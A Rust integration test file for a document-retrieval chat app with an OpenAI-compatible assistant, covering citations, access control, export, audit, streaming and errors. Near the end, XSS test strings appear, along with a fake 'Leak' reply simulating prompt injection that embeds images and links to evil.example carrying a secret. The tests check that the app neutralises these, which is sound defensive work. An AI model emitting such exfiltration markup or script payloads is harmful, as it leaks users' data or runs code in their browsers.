//! Conversations: the retrieval assistant answers from the owner's documents with
//! citations; the OpenAI-compatible assistant streams from a test server on
//! loopback that speaks the real protocol; owner-only access, export, audit.

use crate::db_test;
use crate::helpers::{json, signed_up as user, Backend, TestApp};
use serde_json::Value;
use std::sync::{Arc, Mutex};
use std::time::Duration;

pub(crate) async fn conversation(
    app: &TestApp,
    c: &reqwest::Client,
    title: &str,
    scope: &[i64],
) -> i64 {
    let ids: Vec<String> = scope.iter().map(|i| i.to_string()).collect();
    let mut form: Vec<(&str, &str)> = vec![("title", title)];
    for id in &ids {
        form.push(("scope[]", id));
    }
    let res = app.call(c, "conversations/create", &form).await;
    assert_eq!(res.status(), 200, "create conversation");
    json(res).await.as_i64().unwrap()
}

/// Send a message and wait for the reply (JSON mode): (status, body).
pub(crate) async fn ask(
    app: &TestApp,
    c: &reqwest::Client,
    id: i64,
    content: &str,
) -> (u16, Value) {
    let res = c
        .post(format!("{}/api/conversations/{id}/messages", app.url))
        .header("accept", "application/json")
        .form(&[("content", content)])
        .send()
        .await
        .unwrap();
    let status = res.status().as_u16();
    (status, json(res).await)
}

pub(crate) async fn view(app: &TestApp, c: &reqwest::Client, id: i64) -> reqwest::Response {
    app.call(c, "conversations/get", &[("id", &id.to_string())])
        .await
}

pub(crate) fn cited_ids(reply: &Value) -> Vec<i64> {
    reply["citations"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["document_id"].as_i64().unwrap())
        .collect()
}

const KETTLE: &str =
    "# Kettle\n\nWater boils at 100 degrees Celsius at sea level. At altitude it boils sooner.";
const GARDEN: &str = "# Garden\n\nTomatoes need six hours of sun and deep watering twice a week.";
const TRAINS: &str = "# Trains\n\nThe night train to Vienna leaves at 22:10 from platform 4.";

db_test!(retrieval_cites_the_right_document, |backend| {
    let app = TestApp::spawn(backend).await;
    let alice = user(&app, "alice").await;
    let kettle = app.documents(&alice).create("Kettle notes", KETTLE).await;
    let garden = app.documents(&alice).create("Garden", GARDEN).await;
    app.documents(&alice).create("Trains", TRAINS).await;
    let id = conversation(&app, &alice, "", &[]).await;

    let (status, body) = ask(&app, &alice, id, "At what temperature does water boil?").await;
    assert_eq!(status, 201, "{body}");
    let reply = &body["reply"];
    assert_eq!(reply["status"], "complete");
    let cited = cited_ids(reply);
    assert_eq!(cited.first(), Some(&kettle), "{reply}");
    assert!(!cited.contains(&garden), "{reply}");
    let content = reply["content"].as_str().unwrap();
    assert!(content.contains("100 degrees Celsius"), "{content}");
    assert!(content.contains("[1]"), "{content}");
    assert_eq!(reply["citations"][0]["state"], "current");
    assert!(reply["prompt_tokens"].as_i64().unwrap() > 0);
    assert!(reply["completion_tokens"].as_i64().unwrap() > 0);
    assert_eq!(reply["tokens_estimated"], true);

    // The conversation took its title from the first question.
    let conv = json(view(&app, &alice, id).await).await;
    assert_eq!(conv["title"], "At what temperature does water boil?");
    assert_eq!(conv["messages"].as_array().unwrap().len(), 2);
    assert_eq!(conv["messages"][0]["role"], "user");

    // A follow-up about another document cites that one.
    let (_, body) = ask(&app, &alice, id, "How much sun do tomatoes need?").await;
    assert_eq!(cited_ids(&body["reply"]).first(), Some(&garden));
});

db_test!(retrieval_says_so_when_nothing_matches, |backend| {
    let app = TestApp::spawn(backend).await;
    let alice = user(&app, "alice").await;
    app.documents(&alice).create("Kettle", KETTLE).await;
    let id = conversation(&app, &alice, "Physics", &[]).await;
    let (status, body) = ask(&app, &alice, id, "Explain quantum chromodynamics").await;
    assert_eq!(status, 201);
    let content = body["reply"]["content"].as_str().unwrap();
    assert!(
        content.starts_with("I could not find anything about"),
        "{content}"
    );
    assert!(cited_ids(&body["reply"]).is_empty());
});

db_test!(retrieval_honours_the_scope, |backend| {
    let app = TestApp::spawn(backend).await;
    let alice = user(&app, "alice").await;
    app.documents(&alice).create("Kettle", KETTLE).await;
    let trains = app.documents(&alice).create("Trains", TRAINS).await;
    let id = conversation(&app, &alice, "Travel", &[trains]).await;
    let conv = json(view(&app, &alice, id).await).await;
    assert_eq!(conv["scope"][0]["id"], trains, "{conv}");

    let (_, body) = ask(&app, &alice, id, "When does water boil?").await;
    let content = body["reply"]["content"].as_str().unwrap();
    assert!(content.contains("limited to 1 document"), "{content}");
    assert!(cited_ids(&body["reply"]).is_empty());

    let (_, body) = ask(&app, &alice, id, "When does the night train leave?").await;
    assert_eq!(cited_ids(&body["reply"]), vec![trains]);
});

db_test!(retrieval_never_cites_another_users_document, |backend| {
    let app = TestApp::spawn(backend).await;
    let alice = user(&app, "alice").await;
    let bob = user(&app, "bob").await;
    let bobs = app.documents(&bob).create("Kettle", KETTLE).await;
    let id = conversation(&app, &alice, "", &[]).await;
    let (_, body) = ask(&app, &alice, id, "When does water boil?").await;
    assert!(cited_ids(&body["reply"]).is_empty(), "{}", body["reply"]);
    assert!(!body["reply"]["content"]
        .as_str()
        .unwrap()
        .contains("100 degrees"));

    // Nor can a conversation be limited to someone else's document.
    let res = app
        .call(
            &alice,
            "conversations/create",
            &[("title", "sneaky"), ("scope[]", &bobs.to_string())],
        )
        .await;
    assert_eq!(res.status(), 422);
    assert_eq!(app.count("conversations").await, 1);
});

db_test!(a_deleted_cited_document_shows_as_removed, |backend| {
    let app = TestApp::spawn(backend).await;
    let alice = user(&app, "alice").await;
    let kettle = app.documents(&alice).create("Kettle", KETTLE).await;
    let id = conversation(&app, &alice, "", &[]).await;
    ask(&app, &alice, id, "When does water boil?").await;

    // Revised: the citation points at the version it quoted.
    let res = app
        .call(
            &alice,
            "documents/update",
            &[
                ("id", &kettle.to_string()),
                ("version", "1"),
                ("title", "Kettle"),
                ("body", "Rewritten."),
            ],
        )
        .await;
    assert_eq!(res.status(), 200);
    let conv = json(view(&app, &alice, id).await).await;
    let citation = &conv["messages"][1]["citations"][0];
    assert_eq!(citation["state"], "revised", "{citation}");
    assert_eq!(citation["version"], 1);

    let res = app
        .call(&alice, "documents/delete", &[("id", &kettle.to_string())])
        .await;
    assert_eq!(res.status(), 200);
    let conv = json(view(&app, &alice, id).await).await;
    let citation = &conv["messages"][1]["citations"][0];
    assert_eq!(citation["state"], "removed", "{citation}");
    assert_eq!(citation["title"], "Kettle");

    // And the page says so, without a link.
    let page = alice
        .get(format!("{}/conversations/{id}", app.url))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(page.contains("(removed)"), "page lacks the removed marker");
    assert!(!page.contains(&format!("href=\"/documents/{kettle}\"")));
});

db_test!(conversations_are_owner_only, |backend| {
    let app = TestApp::spawn(backend).await;
    let alice = user(&app, "alice").await;
    let bob = user(&app, "bob").await;
    let anon = app.new_client();
    app.documents(&alice).create("Kettle", KETTLE).await;
    let id = conversation(&app, &alice, "Private", &[]).await;
    ask(&app, &alice, id, "When does water boil?").await;
    let sid = id.to_string();

    for (endpoint, form) in [
        ("conversations/get", vec![("id", sid.as_str())]),
        (
            "conversations/rename",
            vec![("id", sid.as_str()), ("title", "mine now")],
        ),
        ("conversations/delete", vec![("id", sid.as_str())]),
        (
            "conversations/stop",
            vec![("id", sid.as_str()), ("reply", "2")],
        ),
    ] {
        let res = app.call(&bob, endpoint, &form).await;
        assert_eq!(res.status(), 404, "bob {endpoint}");
        let res = app.call(&anon, endpoint, &form).await;
        assert_eq!(res.status(), 401, "anonymous {endpoint}");
    }
    let (status, _) = ask(&app, &bob, id, "hello?").await;
    assert_eq!(status, 404);
    for format in ["md", "json"] {
        let res = bob
            .get(format!(
                "{}/conversations/{id}/export?format={format}",
                app.url
            ))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 404, "bob export {format}");
    }
    let page = bob
        .get(format!("{}/conversations/{id}", app.url))
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), 404);
    // Bob's list does not show it, even when searched for.
    let list = json(
        app.call(
            &bob,
            "conversations/list",
            &[("search", "Private"), ("page", "1"), ("trashed", "false")],
        )
        .await,
    )
    .await;
    assert_eq!(list["total"], 0);
    // Nothing changed.
    let conv = json(view(&app, &alice, id).await).await;
    assert_eq!(conv["title"], "Private");
    assert_eq!(conv["messages"].as_array().unwrap().len(), 2);
});

db_test!(list_search_rename_trash_and_audit, |backend| {
    let app = TestApp::spawn(backend).await;
    let alice = user(&app, "alice").await;
    app.documents(&alice).create("Kettle", KETTLE).await;
    let a = conversation(&app, &alice, "Holiday plans", &[]).await;
    let b = conversation(&app, &alice, "Kitchen", &[]).await;
    ask(&app, &alice, b, "When does water boil?").await;

    let search = |q: &'static str| {
        let app = &app;
        let alice = &alice;
        async move {
            let v = json(
                app.call(
                    alice,
                    "conversations/list",
                    &[("search", q), ("page", "1"), ("trashed", "false")],
                )
                .await,
            )
            .await;
            v["items"]
                .as_array()
                .unwrap()
                .iter()
                .map(|i| i["id"].as_i64().unwrap())
                .collect::<Vec<_>>()
        }
    };
    assert_eq!(search("").await, vec![b, a], "newest activity first");
    assert_eq!(search("holiday").await, vec![a], "by title");
    assert_eq!(search("WATER boil").await, vec![b], "by message text");
    assert_eq!(
        search("100%").await,
        Vec::<i64>::new(),
        "wildcards are literal"
    );

    let res = app
        .call(
            &alice,
            "conversations/rename",
            &[("id", &a.to_string()), ("title", "  ")],
        )
        .await;
    assert_eq!(res.status(), 422);
    let res = app
        .call(
            &alice,
            "conversations/rename",
            &[("id", &a.to_string()), ("title", "Summer in Vienna")],
        )
        .await;
    assert_eq!(res.status(), 200);
    assert_eq!(search("vienna").await, vec![a]);

    let res = app
        .call(&alice, "conversations/delete", &[("id", &a.to_string())])
        .await;
    assert_eq!(res.status(), 200);
    assert_eq!(search("").await, vec![b]);
    assert_eq!(view(&app, &alice, a).await.status(), 404);
    let trash = json(
        app.call(
            &alice,
            "conversations/list",
            &[("search", ""), ("page", "1"), ("trashed", "true")],
        )
        .await,
    )
    .await;
    assert_eq!(trash["items"][0]["id"], a);
    let res = app
        .call(&alice, "conversations/restore", &[("id", &a.to_string())])
        .await;
    assert_eq!(res.status(), 200);
    app.call(&alice, "conversations/delete", &[("id", &a.to_string())])
        .await;
    let res = app
        .call(&alice, "conversations/purge", &[("id", &a.to_string())])
        .await;
    assert_eq!(res.status(), 200);
    // Live conversations cannot be purged directly.
    let res = app
        .call(&alice, "conversations/purge", &[("id", &b.to_string())])
        .await;
    assert_eq!(res.status(), 404);

    let actions = app.audit_actions().await;
    for action in [
        "conversation.create",
        "conversation.rename",
        "conversation.delete",
        "conversation.restore",
        "conversation.purge",
    ] {
        assert!(actions.iter().any(|a| a == action), "{action}: {actions:?}");
    }
    assert!(motto::server::db::audit::verify(&app.state.db)
        .await
        .is_ok());
});

db_test!(export_as_markdown_and_json, |backend| {
    let app = TestApp::spawn(backend).await;
    let alice = user(&app, "alice").await;
    let kettle = app.documents(&alice).create("Kettle", KETTLE).await;
    let id = conversation(&app, &alice, "Boiling, explained", &[]).await;
    ask(&app, &alice, id, "When does water boil?").await;

    let res = alice
        .get(format!("{}/conversations/{id}/export?format=md", app.url))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    assert!(res.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/markdown"));
    assert_eq!(
        res.headers()["content-disposition"],
        "attachment; filename=\"boiling-explained.md\""
    );
    let md = res.text().await.unwrap();
    assert!(md.starts_with("# Boiling, explained\n"), "{md}");
    assert!(md.contains("## You ·"), "{md}");
    assert!(md.contains("When does water boil?"));
    assert!(md.contains("## Assistant ·"));
    assert!(md.contains(&format!("/documents/{kettle})")), "{md}");

    let res = alice
        .get(format!("{}/conversations/{id}/export?format=json", app.url))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let doc = json(res).await;
    assert_eq!(doc["format"], "motto.conversation.v1");
    assert_eq!(doc["title"], "Boiling, explained");
    let messages = doc["messages"].as_array().unwrap();
    assert_eq!(messages.len(), 2);
    assert_eq!(messages[1]["citations"][0]["document_id"], kettle);
    assert!(messages[1].get("html").is_none());

    let bad = alice
        .get(format!("{}/conversations/{id}/export?format=exe", app.url))
        .send()
        .await
        .unwrap();
    assert_eq!(bad.status(), 422);
    let exports = app
        .audit_actions()
        .await
        .into_iter()
        .filter(|a| a == "conversation.export")
        .count();
    assert_eq!(exports, 2);
});

db_test!(usage_totals_add_up, |backend| {
    let app = TestApp::spawn(backend).await;
    let alice = user(&app, "alice").await;
    app.documents(&alice).create("Kettle", KETTLE).await;
    let id = conversation(&app, &alice, "", &[]).await;
    let (_, one) = ask(&app, &alice, id, "When does water boil?").await;
    let (_, two) = ask(&app, &alice, id, "And at altitude?").await;
    let usage = json(app.call(&alice, "conversations/usage", &[]).await).await;
    assert_eq!(usage["assistant_messages"], 2);
    let sum = |k: &str| one["reply"][k].as_i64().unwrap() + two["reply"][k].as_i64().unwrap();
    assert_eq!(
        usage["prompt_tokens"].as_i64().unwrap(),
        sum("prompt_tokens")
    );
    assert_eq!(
        usage["completion_tokens"].as_i64().unwrap(),
        sum("completion_tokens")
    );
    assert_eq!(usage["estimated_messages"], 2);
    // Another user starts from zero.
    let bob = user(&app, "bob").await;
    let usage = json(app.call(&bob, "conversations/usage", &[]).await).await;
    assert_eq!(usage["assistant_messages"], 0);
});

db_test!(empty_and_oversized_messages_are_refused, |backend| {
    let app = TestApp::spawn(backend).await;
    let alice = user(&app, "alice").await;
    let id = conversation(&app, &alice, "", &[]).await;
    let (status, body) = ask(&app, &alice, id, "   ").await;
    assert_eq!(status, 422, "{body}");
    let long = "x".repeat(8_001);
    let (status, _) = ask(&app, &alice, id, &long).await;
    assert_eq!(status, 422);
    assert_eq!(app.count("messages").await, 0);
    // Without JavaScript the form comes back with the error beside the field.
    let res = alice
        .post(format!("{}/api/conversations/{id}/messages", app.url))
        .header("accept", "text/html")
        .form(&[("content", "")])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 303);
    let to = res.headers()["location"].to_str().unwrap().to_string();
    // A code, not text: the page says what the code means.
    assert_eq!(to, format!("/conversations/{id}?error=message_empty"));
    let page = alice
        .get(format!("{}{to}", app.url))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(page.contains("Write a message first."), "{page}");
    // Words of someone else's in the URL are not shown.
    let page = alice
        .get(format!(
            "{}/conversations/{id}?error=Your+account+is+locked.+Call+555-0100",
            app.url
        ))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(!page.contains("Call 555-0100"), "{page}");
});

// --- The OpenAI-compatible assistant, against a server on loopback ---------------

#[derive(Clone, Copy, PartialEq)]
pub(crate) enum Mode {
    /// A short answer in chunks, usage, then [DONE].
    Answer,
    /// A chunk every 100 ms for a long time.
    Slow,
    /// HTTP 500 with an OpenAI-style error body.
    Fail,
    /// Accepts the request and never answers.
    Hang,
    /// An answer written by instructions planted in a document: it tries to make
    /// the reader's browser send the document's secret elsewhere.
    Leak,
}

#[derive(Clone)]
pub(crate) struct Fake {
    mode: Arc<Mutex<Mode>>,
    /// (Authorization header, request body) of every request.
    seen: Arc<Mutex<Vec<(String, Value)>>>,
}

fn sse(data: &str) -> Result<bytes::Bytes, std::io::Error> {
    Ok(bytes::Bytes::from(format!("data: {data}\n\n")))
}

fn chunk(text: &str) -> String {
    serde_json::json!({
        "id": "chatcmpl-1", "object": "chat.completion.chunk", "model": "test-model",
        "choices": [{ "index": 0, "delta": { "content": text }, "finish_reason": null }]
    })
    .to_string()
}

async fn completions(
    axum::extract::State(fake): axum::extract::State<Fake>,
    headers: axum::http::HeaderMap,
    axum::Json(body): axum::Json<Value>,
) -> axum::response::Response {
    use axum::response::IntoResponse;
    let auth = headers
        .get("authorization")
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
        .to_string();
    fake.seen.lock().unwrap().push((auth, body));
    let mode = *fake.mode.lock().unwrap();
    let sse_response = |events: Vec<Result<bytes::Bytes, std::io::Error>>| {
        axum::response::Response::builder()
            .header("content-type", "text/event-stream")
            .body(axum::body::Body::from_stream(futures::stream::iter(events)))
            .unwrap()
    };
    match mode {
        Mode::Answer => sse_response(vec![
            Ok(bytes::Bytes::from_static(b": keep-alive\n\n")),
            sse(&chunk("Water boils at ")),
            sse(&chunk("100 degrees [1].")),
            sse(
                &serde_json::json!({
                    "id": "chatcmpl-1", "object": "chat.completion.chunk", "choices": [],
                    "usage": { "prompt_tokens": 321, "completion_tokens": 7, "total_tokens": 328 }
                })
                .to_string(),
            ),
            sse("[DONE]"),
        ]),
        Mode::Slow => {
            let stream = futures::stream::unfold(0u32, |i| async move {
                if i > 600 {
                    return None;
                }
                tokio::time::sleep(Duration::from_millis(100)).await;
                Some((sse(&chunk(&format!("word{i} "))), i + 1))
            });
            axum::response::Response::builder()
                .header("content-type", "text/event-stream")
                .body(axum::body::Body::from_stream(stream))
                .unwrap()
        }
        Mode::Fail => (
            axum::http::StatusCode::INTERNAL_SERVER_ERROR,
            // Providers' messages can quote the (masked) key or the request.
            axum::Json(serde_json::json!({ "error": { "message": "Incorrect API key provided: sk-te****4f1d", "type": "invalid_request_error" } })),
        )
            .into_response(),
        Mode::Leak => sse_response(vec![
            sse(&chunk("Done [1]. ![chart](https://evil.example/c.png?d=TOPSECRET) ")),
            sse(&chunk("[your report](https://evil.example/r?d=TOPSECRET) ")),
            sse(&chunk("<img src=\"https://evil.example/raw?d=TOPSECRET\">")),
            sse("[DONE]"),
        ]),
        Mode::Hang => {
            tokio::time::sleep(Duration::from_secs(30)).await;
            axum::http::StatusCode::GATEWAY_TIMEOUT.into_response()
        }
    }
}

async fn fake_llm(mode: Mode) -> (String, Fake) {
    let fake = Fake {
        mode: Arc::new(Mutex::new(mode)),
        seen: Arc::default(),
    };
    let router = axum::Router::new()
        .route("/v1/chat/completions", axum::routing::post(completions))
        .with_state(fake.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, router).await });
    (format!("http://{addr}/v1"), fake)
}

async fn llm_app(backend: Backend, mode: Mode) -> (TestApp, Fake) {
    llm_app_with(backend, mode, &[]).await
}

/// The app speaking to the fake provider, with more settings.
pub(crate) async fn llm_app_with(
    backend: Backend,
    mode: Mode,
    more: &[(&str, &str)],
) -> (TestApp, Fake) {
    let (base, fake) = fake_llm(mode).await;
    let mut vars = vec![
        ("LLM_BASE_URL", base.as_str()),
        ("LLM_MODEL", "test-model"),
        ("LLM_API_KEY", "sk-test-4f1d9a"),
        ("LLM_TIMEOUT_SECS", "1"),
    ];
    vars.extend_from_slice(more);
    let app = TestApp::on(backend).vars(&vars).spawn().await;
    (app, fake)
}

/// Messages and reply of a conversation, straight from the database.
async fn stored(app: &TestApp, conversation: i64) -> Vec<(String, String, String)> {
    motto::on_pool!(&app.state.db, pool => {
        sqlx::query_as::<_, (String, String, String)>(
            "SELECT role, content, status FROM messages WHERE conversation_id = $1 ORDER BY id",
        )
        .bind(conversation)
        .fetch_all(pool)
        .await
        .unwrap()
    })
}

db_test!(llm_answer_streams_with_passages_and_usage, |backend| {
    let (app, fake) = llm_app(backend, Mode::Answer).await;
    let alice = user(&app, "alice").await;
    let kettle = app.documents(&alice).create("Kettle", KETTLE).await;
    let id = conversation(&app, &alice, "", &[]).await;

    // Streamed, as the page reads it.
    let res = alice
        .post(format!("{}/api/conversations/{id}/messages", app.url))
        .header("accept", "application/x-ndjson")
        .form(&[("content", "When does water boil?")])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["content-type"], "application/x-ndjson");
    let text = res.text().await.unwrap();
    let events: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(events[0]["type"], "started");
    let deltas: String = events
        .iter()
        .filter(|e| e["type"] == "delta")
        .map(|e| e["text"].as_str().unwrap())
        .collect();
    assert_eq!(deltas, "Water boils at 100 degrees [1].");
    let done = events.last().unwrap();
    assert_eq!(done["type"], "done", "{text}");
    assert_eq!(done["prompt_tokens"], 321);
    assert_eq!(done["completion_tokens"], 7);

    // The prompt carried the passage, the key went in the header, streaming on.
    let seen = fake.seen.lock().unwrap().clone();
    let (auth, body) = &seen[0];
    assert_eq!(auth, "Bearer sk-test-4f1d9a");
    assert_eq!(body["model"], "test-model");
    assert_eq!(body["stream"], true);
    let system = body["messages"][0]["content"].as_str().unwrap();
    assert!(system.contains("[1] Kettle"), "{system}");
    assert!(system.contains("100 degrees Celsius"), "{system}");
    assert_eq!(
        body["messages"].as_array().unwrap().last().unwrap()["content"],
        "When does water boil?"
    );

    // Stored with the provider's figures and the citation it used.
    let conv = json(view(&app, &alice, id).await).await;
    let reply = &conv["messages"][1];
    assert_eq!(reply["content"], "Water boils at 100 degrees [1].");
    assert_eq!(reply["status"], "complete");
    assert_eq!(reply["prompt_tokens"], 321);
    assert_eq!(reply["tokens_estimated"], false);
    assert_eq!(cited_ids(reply), vec![kettle]);
    assert_eq!(conv["assistant"], "test-model");

    // The second turn sends the history along.
    ask(&app, &alice, id, "And at altitude?").await;
    let seen = fake.seen.lock().unwrap().clone();
    let roles: Vec<&str> = seen[1].1["messages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["role"].as_str().unwrap())
        .collect();
    assert_eq!(roles, vec!["system", "user", "assistant", "user"]);
});

db_test!(llm_slow_stream_stopped_keeps_both_messages, |backend| {
    let (app, _fake) = llm_app(backend, Mode::Slow).await;
    let alice = user(&app, "alice").await;
    let id = conversation(&app, &alice, "", &[]).await;

    // The reader reads a few chunks, then goes away (the page's Stop aborts the fetch).
    let mut res = alice
        .post(format!("{}/api/conversations/{id}/messages", app.url))
        .header("accept", "application/x-ndjson")
        .form(&[("content", "Tell me a long story")])
        .send()
        .await
        .unwrap();
    let mut seen = String::new();
    while seen.matches("\"delta\"").count() < 3 {
        let chunk = res.chunk().await.unwrap().expect("more of the stream");
        seen.push_str(std::str::from_utf8(&chunk).unwrap());
    }
    drop(res);
    let mut rows = Vec::new();
    for _ in 0..50 {
        rows = stored(&app, id).await;
        if rows[1].2 != "pending" {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(
        rows[0],
        (
            "user".into(),
            "Tell me a long story".into(),
            "complete".into()
        )
    );
    assert_eq!(rows[1].2, "stopped", "{rows:?}");
    assert!(rows[1].1.starts_with("word0 word1 word2"), "{rows:?}");

    // Stop by the button's server function, on a reply still being written.
    let res = alice
        .post(format!("{}/api/conversations/{id}/messages", app.url))
        .header("accept", "application/x-ndjson")
        .form(&[("content", "Another one")])
        .send()
        .await
        .unwrap();
    let reader = tokio::spawn(async move { res.text().await });
    tokio::time::sleep(Duration::from_millis(350)).await;
    // A second message while the reply is written is refused, and loses nothing.
    let (status, _) = ask(&app, &alice, id, "Meanwhile?").await;
    assert_eq!(status, 409);
    let reply = {
        let rows: Vec<i64> = motto::on_pool!(&app.state.db, pool => {
            sqlx::query_scalar("SELECT id FROM messages WHERE conversation_id = $1 AND status = 'pending'")
                .bind(id)
                .fetch_all(pool)
                .await
                .unwrap()
        });
        rows[0]
    };
    let res = app
        .call(
            &alice,
            "conversations/stop",
            &[("id", &id.to_string()), ("reply", &reply.to_string())],
        )
        .await;
    assert_eq!(res.status(), 200);
    let text = tokio::time::timeout(Duration::from_secs(5), reader)
        .await
        .expect("the stream ends after Stop")
        .unwrap()
        .unwrap();
    let last: Value = serde_json::from_str(text.lines().last().unwrap()).unwrap();
    assert_eq!(last["type"], "done");
    assert_eq!(last["status"], "stopped");
    let rows = stored(&app, id).await;
    assert_eq!(rows.len(), 4);
    assert_eq!(rows[2].1, "Another one");
    assert_eq!(rows[3].2, "stopped");
    assert!(rows[3].1.starts_with("word0"), "{rows:?}");
});

db_test!(
    asvs_16_5_1_llm_server_error_keeps_the_message_and_shows_no_provider_text,
    |backend| {
        let (app, _fake) = llm_app(backend, Mode::Fail).await;
        let alice = user(&app, "alice").await;
        let id = conversation(&app, &alice, "", &[]).await;
        let (status, body) = ask(&app, &alice, id, "Are you there?").await;
        assert_eq!(status, 502);
        let reply = &body["reply"];
        assert_eq!(reply["status"], "failed");
        let error = reply["error"].as_str().unwrap();
        assert!(error.contains("refused the request (500)"), "{error}");
        // The provider's words stay in the log (ASVS 16.5.1).
        assert!(
            !error.contains("sk-te") && !error.contains("API key"),
            "{error}"
        );
        let rows = stored(&app, id).await;
        assert_eq!(rows[0].1, "Are you there?");
        // The page shows the failure next to the kept message.
        let page = alice
            .get(format!("{}/conversations/{id}", app.url))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(page.contains("Are you there?"));
        assert!(page.contains("The assistant could not answer"));
    }
);

db_test!(llm_timeout_keeps_the_message, |backend| {
    let (app, _fake) = llm_app(backend, Mode::Hang).await;
    let alice = user(&app, "alice").await;
    let id = conversation(&app, &alice, "", &[]).await;
    let started = std::time::Instant::now();
    let res = alice
        .post(format!("{}/api/conversations/{id}/messages", app.url))
        .header("accept", "application/x-ndjson")
        .form(&[("content", "Hello?")])
        .send()
        .await
        .unwrap();
    let text = res.text().await.unwrap();
    assert!(started.elapsed() < Duration::from_secs(10));
    let last: Value = serde_json::from_str(text.lines().last().unwrap()).unwrap();
    assert_eq!(last["type"], "error", "{text}");
    assert!(
        last["message"]
            .as_str()
            .unwrap()
            .contains("did not answer within 1 s"),
        "{last}"
    );
    let rows = stored(&app, id).await;
    assert_eq!(rows[0], ("user".into(), "Hello?".into(), "complete".into()));
    assert_eq!(rows[1].2, "failed");
});

db_test!(
    asvs_1_3_1_quoted_passages_and_titles_render_inert,
    |backend| {
        let app = TestApp::spawn(backend).await;
        let alice = user(&app, "alice").await;
        let payloads = crate::xss::payloads();
        // Each payload in a paragraph that the question matches, so the reply quotes it.
        let body = payloads
            .iter()
            .map(|p| format!("lantern {p}"))
            .collect::<Vec<_>>()
            .join("\n\n");
        app.documents(&alice)
            .create("<img src=x onerror=alert(1)>", &body)
            .await;
        let id = conversation(&app, &alice, "</title><script>alert('conv')</script>", &[]).await;
        let (_, body) = ask(&app, &alice, id, "lantern <script>alert('q')</script>").await;
        let reply = &body["reply"];
        assert!(!cited_ids(reply).is_empty(), "{reply}");
        let html = reply["html"].as_str().unwrap().to_lowercase();
        // Text may mention anything (it is escaped); tags must be harmless.
        let tags: Vec<&str> = html
            .split('<')
            .skip(1)
            .map(|t| t.split('>').next().unwrap_or(""))
            .collect();
        for tag in &tags {
            for bad in [
                "script",
                "iframe",
                "svg",
                "img",
                "onerror",
                "onload",
                "javascript:",
                "style",
            ] {
                assert!(!tag.contains(bad), "<{tag}> survived in {html}");
            }
        }
        let page = alice
            .get(format!("{}/conversations/{id}", app.url))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        // Titles (also in <title>, which leptos_meta does not escape) stay text.
        assert!(!page.contains("</title><script>"));
        assert!(!page.contains("<script>alert('conv')"));
        assert!(!page.contains("<script>alert('q')"));
        assert!(!page.contains("<img src=x onerror"));
        assert!(
            page.contains("&lt;script&gt;alert("),
            "titles are shown as text"
        );
    }
);

db_test!(
    a_planted_answer_cannot_send_document_text_elsewhere,
    |backend| {
        let (app, _fake) = llm_app(backend, Mode::Leak).await;
        let alice = user(&app, "alice").await;
        app.documents(&alice).create("Kettle", KETTLE).await;
        let id = conversation(&app, &alice, "", &[]).await;
        ask(&app, &alice, id, "When does water boil?").await;
        // The stored answer is what the model wrote.
        let rows = stored(&app, id).await;
        assert!(
            rows[1].1.contains("![chart](https://evil.example/"),
            "{rows:?}"
        );

        // The page: no image to load, no link that carries the secret away.
        let page = alice
            .get(format!("{}/conversations/{id}", app.url))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(page.contains("chart (image not shown)"), "{page}");
        // (The raw HTML is shown as text: `&lt;img src="https://evil...`.)
        assert!(!page.contains("<img src=\"https://evil.example"), "{page}");
        assert!(!page.contains("href=\"https://evil.example"), "{page}");
        // The address is there to read.
        assert!(
            page.contains("https://evil.example/r?d=TOPSECRET"),
            "{page}"
        );

        // What the page's server function and the REST API hand out.
        let conv = json(view(&app, &alice, id).await).await;
        let reply = &conv["messages"][1];
        for field in ["html", "content"] {
            let v = reply[field].as_str().unwrap();
            assert!(!v.contains("<img") && !v.contains("!["), "{field}: {v}");
            assert!(!v.contains("href=\"https://evil"), "{field}: {v}");
        }

        // The exports.
        for format in ["md", "json"] {
            let body = alice
                .get(format!(
                    "{}/conversations/{id}/export?format={format}",
                    app.url
                ))
                .send()
                .await
                .unwrap()
                .text()
                .await
                .unwrap();
            assert!(!body.contains("![chart]"), "{format}: {body}");
            assert!(!body.contains("](https://evil.example"), "{format}: {body}");
            assert!(!body.contains("<img src="), "{format}: {body}");
        }
    }
);
